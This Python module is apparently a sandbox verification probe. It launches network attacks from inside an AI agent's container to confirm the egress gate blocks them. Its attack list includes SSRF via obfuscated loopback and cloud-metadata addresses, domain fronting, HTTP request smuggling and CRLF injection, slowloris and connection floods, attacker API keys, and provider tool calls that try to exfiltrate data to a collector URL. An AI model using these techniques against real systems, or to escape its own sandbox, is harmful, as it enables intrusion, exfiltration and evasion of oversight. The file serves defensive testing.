"""The network half of ``claude-bottle verify``: attacks from inside a bottle's network namespace.

Run as ``python -m claude_bottle.probe TARGETS_JSON`` in a container that joins the bottle's network
namespace with the bottle's user, no capabilities and no new privileges (the bottle has no Python). What a
process can reach depends on the namespace it is in and its capabilities; the bottle's own capabilities are
checked inside the bottle itself. Standard library only: this runs in the gate image.

Each attack (``claude_bottle.verify.attack``) prints its outcome as one JSON line: group, attack, expected,
actual, blocked, and ``evidence`` (what came back, which ``verify`` searches for the credential; the probe itself
is never told the credential).
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import errno
import functools
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from typing import Any

from claude_bottle.verify.attack import Attack, Outcome, Verdict

TIMEOUT = 3.0
# The gate resolves a CONNECT's host before it answers and dials it after the first flight; a slow resolver
# or first connection (Podman's networks) can take seconds. A tunnel attack must not be judged on an answer
# that had no time to come: the first bytes get this long, the rest TIMEOUT. A refusal closes at once.
SLOW_ANSWER_TIMEOUT = 15.0
REFUSED_STATUSES = {400, 403, 405, 407, 413, 414, 431, 501, 505}  # a refusal; 502/504 mean the gate dialled
# An IPv6 address sends nothing while duplicate address detection runs (about a second after the link comes
# up): an attack on IPv6 waits this long for it, as an attacker would.
TENTATIVE_SECONDS = 5.0
IFA_F_TENTATIVE = 0x40
DNS_RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


def _error(exc: BaseException) -> str:
    if isinstance(exc, TimeoutError | socket.timeout):
        return "no answer (timed out)"
    return getattr(exc, "strerror", None) or str(exc) or type(exc).__name__


# ---- direct egress: a packet that gets an answer, even a refusal, reached something -------------------------

def tcp(host: str, port: int) -> tuple[str, bool]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect((host, port))
        return "connected", False
    except ConnectionRefusedError:
        return "refused by the peer: the packet got there", False
    except OSError as exc:
        return _error(exc), True


def dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 0x2B0B, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def dns_answer(query: bytes, answer: bytes) -> tuple[str, bool]:
    """A resolver's answer to ``query`` (``dns_query``) judged: addresses in it mean the name resolved."""
    if len(answer) < 12 or answer[:2] != query[:2]:
        return f"answered {len(answer)} bytes that are not an answer to the query", True
    flags, _, count = struct.unpack("!HHH", answer[2:8])
    code = DNS_RCODES.get(flags & 0xF, str(flags & 0xF))
    if code == "NOERROR" and count:
        return f"resolved: {count} record(s) in the answer", False
    return f"answered {code}, no address", True


def lookup(resolver: str, name: str, port: int = 53) -> tuple[str, bool]:
    """A DNS question for ``name`` straight to ``resolver`` over UDP: blocked unless an address comes back (a
    refusal from the peer's kernel, or a resolver's own refusal, resolves nothing)."""
    family = socket.AF_INET6 if ":" in resolver else socket.AF_INET
    query = dns_query(name)
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect((resolver, port))
            sock.send(query)
            return dns_answer(query, sock.recv(4096))
    except ConnectionRefusedError:
        return "refused by the peer: no resolver there", True
    except OSError as exc:
        return _error(exc), True


def udp(host: str, port: int, payload: bytes) -> tuple[str, bool]:
    """A connected UDP socket reports an ICMP port-unreachable as a refusal: that too means it got there."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect((host, port))
            sock.send(payload)
            answer = sock.recv(2048)
        return f"answered with {len(answer)} bytes", False
    except ConnectionRefusedError:
        return "refused by the peer: the packet got there", False
    except OSError as exc:
        return _error(exc), True


def icmp_echo(host: str) -> tuple[str, bool]:
    """The unprivileged ICMP socket a non-root ping uses, where the namespace's ping_group_range allows it."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"claude-bottle", (host, 0))
            sock.recvfrom(2048)
        return "echo reply", False
    except OSError as exc:
        return _error(exc), True


def raw_socket(family: int, kind: int, protocol: int) -> tuple[str, bool]:
    try:
        socket.socket(family, kind, protocol).close()
        return "opened", False
    except OSError as exc:
        return _error(exc), True


def ipv6_addresses() -> list[tuple[str, int]]:
    """(interface, flags) of each IPv6 address in the namespace but loopback's."""
    try:
        with open("/proc/net/if_inet6", encoding="ascii") as table:
            rows = [line.split() for line in table]
    except OSError:
        return []
    return [(row[5], int(row[4], 16)) for row in rows if len(row) == 6 and row[5] != "lo"]


def ipv6_link() -> tuple[str, bool]:
    """All-nodes multicast on each interface: any IPv6 packet on the link would reach the bridge (the host's,
    or rootless Podman's namespace). Sent once no address is tentative any more: before that the kernel
    refuses to send, whether or not IPv6 is on."""
    deadline = time.monotonic() + TENTATIVE_SECONDS
    while any(flags & IFA_F_TENTATIVE for _, flags in ipv6_addresses()) and time.monotonic() < deadline:
        time.sleep(0.1)
    sent, unsent = [], []
    for index, name in socket.if_nameindex():
        if name == "lo":
            continue
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"claude-bottle", ("ff02::1", 9, 0, index))
            sent.append(name)
        except OSError as exc:
            if exc.errno == errno.EADDRNOTAVAIL and any(name == where for where, _ in ipv6_addresses()):
                unsent.append(name)
    if sent:
        return f"sent on {', '.join(sent)}", False
    if unsent:
        return f"inconclusive: the address on {', '.join(unsent)} was still tentative", False
    return "no IPv6 on any interface", True


def gateways() -> list[str]:
    """The default gateways of the namespace's routing table (the host side of a Docker bridge)."""
    found = []
    with open("/proc/net/route", encoding="ascii") as table:
        for line in table.readlines()[1:]:
            fields = line.split()
            if int(fields[3], 16) & 0x2:  # RTF_GATEWAY
                found.append(socket.inet_ntoa(struct.pack("<L", int(fields[2], 16))))
    return found


# ---- HTTP to the gate ----------------------------------------------------------------------------------------

def exchange(host: str, port: int, request: bytes) -> tuple[int | None, bytes]:
    """Send raw bytes, read until the peer closes or goes quiet: (status or None, everything that came back)."""
    received = b""
    try:
        with socket.create_connection((host, port), TIMEOUT) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendall(request)
            while len(received) < 1 << 20:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                received += chunk
    except OSError:
        pass
    status = None
    if received.startswith(b"HTTP/1."):
        status = int(received.split(b" ", 2)[1])
    return status, received


def judged(status: int | None, received: bytes) -> tuple[str, bool]:
    if status is None:
        return "connection closed without an answer", True
    line = received.split(b"\r\n", 1)[0].decode("latin-1")
    reason = next((h.split(b":", 1)[1].strip().decode("latin-1") for h in received.split(b"\r\n")
                   if h.lower().startswith(b"x-deny-reason:")), "")
    shown = f" ({reason})" if reason and not line.endswith(reason) else ""  # the gate's phrase is the reason
    return f"{line}{shown}", status in REFUSED_STATUSES


def proxy_request(targets: dict[str, Any], request: bytes) -> tuple[str, bool, str]:
    status, received = exchange(targets["gate"], targets["proxy_port"], request)
    actual, blocked = judged(status, received)
    return actual, blocked, received[:4096].decode("latin-1")


def connect(authority: str, extra: str = "") -> bytes:
    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{extra}\r\n".encode()


def get(url: str, host: str, extra: str = "") -> bytes:
    return f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n".encode()


def api_request(targets: dict[str, Any], method: str, path: str, body: dict[str, Any] | None = None,
                extra: str = "") -> tuple[str, bool, str]:
    data = json.dumps(body).encode() if body is not None else b""
    head = (f"{method} {path} HTTP/1.1\r\nHost: gate\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(data)}\r\n{extra}Connection: close\r\n\r\n").encode()
    status, received = exchange(targets["gate"], targets["api_port"], head + data)
    actual, blocked = judged(status, received)
    return actual, blocked, received[:1 << 16].decode("latin-1")


# ---- inside an allowed tunnel: the first flight ------------------------------------------------------------

def client_hello(server_name: str) -> bytes:
    """The first flight of Python's TLS client naming ``server_name``, made in memory."""
    outgoing = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=server_name)
    with contextlib.suppress(ssl.SSLWantReadError):  # waiting for the server: the hello is in ``outgoing``
        tls.do_handshake()
    return outgoing.read()


def through_tunnel(targets: dict[str, Any], authority: str, first_flight: bytes) -> tuple[int | None, bytes]:
    """CONNECT ``authority``; once answered 200, send ``first_flight`` and read what comes back until the
    tunnel closes or goes quiet. (The CONNECT status, or None; what came after the CONNECT answer.)"""
    received, status = b"", None
    try:
        with socket.create_connection((targets["gate"], targets["proxy_port"]), TIMEOUT) as sock:
            sock.settimeout(SLOW_ANSWER_TIMEOUT)
            sock.sendall(connect(authority))
            while b"\r\n\r\n" not in received and len(received) < 65536:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                received += chunk
            head, _, received = received.partition(b"\r\n\r\n")
            if head.startswith(b"HTTP/1."):
                status = int(head.split(b" ", 2)[1])
            if status == 200:
                sock.sendall(first_flight)
                while len(received) < 65536 and (chunk := sock.recv(4096)):
                    received += chunk
                    sock.settimeout(TIMEOUT)
    except OSError:
        pass
    return status, received


def _first_line(data: bytes) -> str:
    return data.split(b"\r\n", 1)[0][:80].decode("latin-1")


def fronted_hello(targets: dict[str, Any]) -> tuple[str, bool, str]:
    """Domain fronting: a tunnel to an allowed host whose TLS hello names another. The control, a hello
    naming the allowed host, must reach it (the stub there answers TLS bytes with an HTTP 400), else the
    check proves nothing."""
    front = f"{targets['front_host']}:{targets['front_port']}"
    status, control = through_tunnel(targets, front, client_hello(targets["front_host"]))
    if status != 200 or not control:
        return f"inconclusive: a hello naming {targets['front_host']} got no answer either (CONNECT {status})", \
            False, ""
    status, answer = through_tunnel(targets, front, client_hello(targets["unlisted_host"]))
    if answer:
        return f"relayed: the upstream answered {_first_line(answer)}", False, answer[:4096].decode("latin-1")
    return f"cut by the gate (CONNECT {status}; the same hello naming {targets['front_host']} got through)", True, ""


def non_tls_in_tunnel(targets: dict[str, Any]) -> tuple[str, bool, str]:
    front = f"{targets['front_host']}:{targets['front_port']}"
    request = f"GET /v1/models HTTP/1.1\r\nHost: {targets['unlisted_host']}\r\nConnection: close\r\n\r\n"
    status, answer = through_tunnel(targets, front, request.encode())
    if answer:
        return f"relayed: the upstream answered {_first_line(answer)}", False, answer[:4096].decode("latin-1")
    return f"cut by the gate (CONNECT {status}, then nothing came back)", status is not None, ""


def slow_head(targets: dict[str, Any]) -> tuple[str, bool]:
    """A request head trickled in a byte at a time, each byte well inside any per-read timeout: the gate must
    cut it at its deadline for the whole head."""
    deadline = float(targets["header_timeout"])
    give_up = deadline + 10
    head = b"GET http://" + targets["unlisted_host"].encode() + b"/ HTTP/1.1\r\nX-Slow: " + b"a" * 100_000
    sent, cut = 0, False
    started = time.monotonic()
    try:
        with socket.create_connection((targets["gate"], targets["proxy_port"]), TIMEOUT) as sock:
            sock.settimeout(0.25)
            while time.monotonic() - started < give_up and sent < len(head):
                sock.sendall(head[sent : sent + 1])
                sent += 1
                try:
                    sock.recv(4096)  # an answer (408) or the close: either way, cut
                    cut = True
                    break
                except TimeoutError:
                    continue
    except OSError:
        cut = True  # a reset while sending: cut as well
    elapsed = time.monotonic() - started
    if cut and elapsed <= deadline + 5:
        return f"cut after {elapsed:.0f}s and {sent} bytes (head deadline {deadline:g}s)", True
    return f"still taking bytes after {elapsed:.0f}s ({sent} bytes; head deadline {deadline:g}s)", False


def connection_flood(targets: dict[str, Any]) -> Outcome:
    """Connections up to a little past the proxy listener's cap, all held open: the excess must be refused
    (503), and once they close the gate must answer again. Run alone: it fills the gate on purpose."""
    cap = int(targets["max_connections"])
    total = cap + 16
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < total + 64 <= hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (total + 64, hard))
    held: list[socket.socket] = []
    refused = still_open = 0
    try:
        for _ in range(total):
            held.append(socket.create_connection((targets["gate"], targets["proxy_port"]), TIMEOUT))
        time.sleep(1.0)  # let the gate accept, and refuse, every one
        for sock in held:
            sock.setblocking(False)
            try:
                refused += sock.recv(4096).startswith(b"HTTP/1.1 503")
            except BlockingIOError:
                still_open += 1
            except OSError:
                pass
    except OSError as exc:
        return Outcome("egress proxy", f"a connection flood ({total} held open)", "excess refused, gate recovers",
                       f"could not open {total} connections: {_error(exc)}", False)
    finally:
        for sock in held:
            sock.close()
    after: tuple[str, bool] = ("no answer", False)
    stop = time.monotonic() + 10
    while time.monotonic() < stop:  # the gate sees the closes shortly
        status, received = exchange(targets["gate"], targets["proxy_port"], connect(f"{targets['unlisted_host']}:443"))
        after = judged(status, received)
        if status != 503:
            break
        time.sleep(0.2)
    blocked = refused > 0 and still_open <= cap and status == 403
    return Outcome("egress proxy", f"a connection flood ({total} held open, cap {cap})",
                   "excess refused, gate recovers",
                   f"{refused} refused with 503, {still_open} held; afterwards {after[0]}", blocked)


# ---- the suite -------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Probe(Attack[None, Verdict]):
    """An attack from the bottle's network namespace: ``send`` makes it, bound to its targets, and judges what
    came back as it goes (a packet that got any answer, even a refusal, reached something)."""

    send: Callable[[], Verdict]

    def run(self, target: None) -> Verdict:
        return self.send()

    def judge(self, target: None, result: Verdict) -> Verdict:
        return result


def attacks(targets: dict[str, Any]) -> list[Probe]:
    """Everything a process in the namespace might try."""
    canary, port, host_port = targets["canary_ip"], targets["canary_port"], targets["host_port"]
    gate, api_host, key = targets["gate"], targets["api_host"], targets["attacker_key"]
    found: list[Probe] = []

    def add(group: str, attack: str, expected: str, send: Callable[[], Verdict]) -> None:
        found.append(Probe(group, attack, expected, send))

    direct, no_way = "direct egress", "no packet gets there"
    for address in targets["public_ipv4"]:
        add(direct, f"TCP to public {address}:443", no_way, functools.partial(tcp, address, 443))
        add(direct, f"DNS over UDP straight to {address}:53", no_way,
            functools.partial(udp, address, 53, dns_query("example.com")))
    for address in targets["public_ipv6"]:
        add(direct, f"TCP over IPv6 to public [{address}]:443", no_way, functools.partial(tcp, address, 443))
    add(direct, "IPv6 on the link (all-nodes multicast)", "no IPv6 packet leaves", ipv6_link)
    add(direct, f"TCP to a host outside the bottle ({canary}:{port})", no_way, lambda: tcp(canary, port))
    add(direct, f"UDP to a host outside the bottle ({canary}:53)", no_way, lambda: udp(canary, 53, b"x"))
    for address in dict.fromkeys(gateways() + targets["host_addresses"]):
        add(direct, f"TCP to the Docker host at {address}:{host_port}", no_way,
            functools.partial(tcp, address, host_port))
        add(direct, f"UDP to the Docker host at {address}:{host_port}", no_way,
            functools.partial(udp, address, host_port, b"x"))
    for address in targets.get("host_loopback", []):
        where = f"{address}:{host_port}, the host's loopback through slirp4netns"
        add(direct, f"TCP to {where}", no_way, functools.partial(tcp, address, host_port))
        add(direct, f"UDP to {where}", no_way, functools.partial(udp, address, host_port, b"x"))
    looked_up = targets.get("dns_name", "")
    for resolver in dict.fromkeys(targets.get("resolvers", []) + gateways() + targets["host_addresses"]):
        add(direct, f"DNS for {looked_up} straight to {resolver}:53", "no address comes back",
            functools.partial(lookup, resolver, looked_up))
    add(direct, "TCP to the cloud metadata address 169.254.169.254:80", no_way, lambda: tcp("169.254.169.254", 80))
    add(direct, f"ICMP echo to {canary}", "no reply", lambda: icmp_echo(canary))
    for address in targets["public_ipv4"][:1]:
        add(direct, f"ICMP echo to {address}", "no reply", functools.partial(icmp_echo, address))
    add(direct, "raw IP socket", "not permitted",
        functools.partial(raw_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
    add(direct, "packet socket", "not permitted", functools.partial(raw_socket, socket.AF_PACKET, socket.SOCK_RAW, 0))

    proxy, refused = "egress proxy", "refused"

    def via_proxy(attack: str, request: bytes, expected: str = refused) -> None:
        add(proxy, attack, expected, lambda: proxy_request(targets, request))

    unlisted = targets["unlisted_host"]
    via_proxy(f"CONNECT to an unlisted host ({unlisted}:443)", connect(f"{unlisted}:443"))
    via_proxy("absolute-URI GET to an unlisted host", get(f"http://{unlisted}/", unlisted))
    for literal in (f"{canary}:{port}", "127.0.0.1:80", "2130706433:80", "0x7f.1:80", "0177.0.0.1:80",
                    "[::ffff:127.0.0.1]:80", "[::1]:80", "169.254.169.254:80", "[::ffff:a9fe:a9fe]:80"):
        via_proxy(f"CONNECT to the address {literal}", connect(literal))
    via_proxy(f"GET by IP literal http://{canary}:{port}/", get(f"http://{canary}:{port}/", f"{canary}:{port}"))
    name = targets["private_name"]
    via_proxy(f"CONNECT to an allowlisted name on a private address ({name})", connect(name))
    front = f"{targets['front_host']}:{targets['front_port']}"
    add(proxy, f"TLS hello naming {unlisted} in a tunnel to {front} (domain fronting)", "cut before the upstream",
        lambda: fronted_hello(targets))
    add(proxy, f"plain HTTP for {unlisted} in a tunnel to {front}", "cut before the upstream",
        lambda: non_tls_in_tunnel(targets))
    via_proxy(f"CONNECT to an allowlisted host on port 80 ({targets['front_host']}:80)",
              connect(f"{targets['front_host']}:80"))
    add(proxy, "a request head trickled a byte at a time", "cut at the head deadline", lambda: slow_head(targets))
    via_proxy(f"CONNECT to the API host ({api_host}) with an attacker's key",
              connect(api_host, f"Proxy-Authorization: Basic {key}\r\n"))
    via_proxy("GET to the API host with an attacker's key",
              get(f"http://{api_host}/v1/models", api_host, f"x-api-key: {key}\r\n"))
    for authority in (f"{gate}:{targets['api_port']}", f"{gate}:{targets['proxy_port']}", "localhost:8080",
                      f"gate:{targets['api_port']}"):
        via_proxy(f"CONNECT to the gate itself ({authority})", connect(authority))
    smuggled = f"GET http://{unlisted}/ HTTP/1.1\r\nHost: {unlisted}\r\n\r\n"
    for attack, request in (
        ("smuggling: Content-Length with Transfer-Encoding",
         f"POST http://{name}/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 4\r\n"
         f"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ("smuggling: two different Content-Lengths",
         f"POST http://{name}/ HTTP/1.1\r\nHost: {name}\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n"),
        ("smuggling: obs-fold header continuation",
         f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nX-A: a\r\n folded\r\n\r\n"),
        ("smuggling: bare LF line ends", f"GET http://{name}/ HTTP/1.1\nHost: {name}\n\n"),
        ("header injection: bare CR in a header",
         f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nX-A: a\rb: c\r\n\r\n"),
        ("header injection: CRLF in the request target",
         f"GET http://{name}/\r\nHost: {unlisted} HTTP/1.1\r\nHost: {name}\r\n\r\n"),
    ):
        via_proxy(attack, request.encode(), "refused as malformed")

    api = "API route"

    def via_api(attack: str, method: str, path: str, body: dict[str, Any] | None = None, extra: str = "",
                expected: str = refused) -> None:
        add(api, attack, expected, lambda: api_request(targets, method, path, body, extra))

    via_api("TRACE", "TRACE", "/")
    for method, path in (("GET", "/v1/files"), ("POST", "/api/oauth/claude_cli/create_api_key"),
                         ("GET", "/v1/models/../../api/oauth/profile"), ("GET", "/v1/%6d%65ssages")):
        via_api(f"{method} {path} (outside the policy)", method, path)
    for mode in ("echo", "echo-header", "echo-split", "echo-reason"):
        via_api(f"an upstream reflecting the credential ({mode})", "POST", "/v1/messages",
                {"model": "stub", "max_tokens": 1, "messages": [], "stub": {"mode": mode}},
                expected="the credential never comes back")
    hi = {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]}
    collector = f"https://{unlisted}/collect"
    for attack, extra_fields in (
        # Each name ends with the field or tool type that must never reach the upstream (verify checks).
        ("the provider connects out for the bottle: mcp_servers",
         {"mcp_servers": [{"type": "url", "url": collector, "name": "c", "authorization_token": "bottle-data"}]}),
        ("the provider fetches a URL for the bottle: web_fetch_20250910",
         {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}],
          "messages": [{"role": "user", "content": f"fetch {collector}?data=bottle-data"}]}),
        ("the provider runs code for the bottle: code_execution_20250825",
         {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
    ):
        via_api(attack, "POST", "/v1/messages", {**hi, **extra_fields}, expected="refused before the upstream")
    via_api("an attacker's key sent on the API route", "POST", "/v1/messages",
            {"model": "stub", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}]},
            f"x-api-key: {key}\r\nAuthorization: Bearer {key}\r\n", expected="stripped before the upstream")
    return found


def run_one(attack: Probe) -> Outcome:
    return attack.outcome(None)


def main() -> None:
    targets = json.loads(sys.argv[1])
    suite = attacks(targets)
    with concurrent.futures.ThreadPoolExecutor(max_workers=min(32, len(suite))) as pool:
        for outcome in pool.map(run_one, suite):
            print(json.dumps(asdict(outcome)), flush=True)
    print(json.dumps(asdict(connection_flood(targets))), flush=True)  # alone, after the rest
    sys.stdout.flush()
    os._exit(0)  # threads stuck in a blocking call must not hold the exit


if __name__ == "__main__":
    main()
